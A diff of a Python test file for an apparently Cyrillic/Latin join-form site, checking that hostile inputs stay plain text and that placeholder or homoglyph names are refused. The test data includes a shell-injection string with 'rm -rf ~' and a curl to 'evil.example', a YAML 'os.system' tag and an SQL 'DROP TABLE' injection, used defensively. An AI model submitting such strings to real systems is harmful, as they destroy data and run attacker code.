@@ -79,7 +79,7 @@ def test_windows_line_endings_are_read(project):
 
 @pytest.mark.parametrize("hostile", [
     '$(touch /tmp/joinform-pwned); rm -rf ~ && curl evil.example; sh x',
-    "yes", "null", "no 0123", "True", "key: value", "- item", "&anchor *alias", "!!python/object:os.system",
+    "yes", "null and void", "no 0123", "True", "key: value", "- item", "&anchor *alias", "!!python/object:os.system",
     "'; DROP TABLE members; --", "# not a comment", '"quoted" and \'single\'',
 ])
 def test_shell_and_yaml_metacharacters_stay_plain_text(project, hostile):
@@ -138,6 +138,14 @@ def test_bad_links_are_refused(project, link):
 ])
 def test_empty_long_or_invisible_names_are_refused(project, answer, says):
     assert says in refused(project, body(name_kk=answer)).ru
+
+
+@pytest.mark.parametrize("name, says", [
+    ("null", "placeholder"), ("Название организации", "placeholder"),
+    ("Фoнд Свобода", "mixes Latin and Cyrillic"),  # a Latin o in a Cyrillic word
+])
+def test_the_sites_own_checks_refuse_what_they_refuse_anywhere(project, name, says):
+    assert says in refused(project, body(name_ru=name)).ru
 
 
 def test_no_consent_no_member(project):
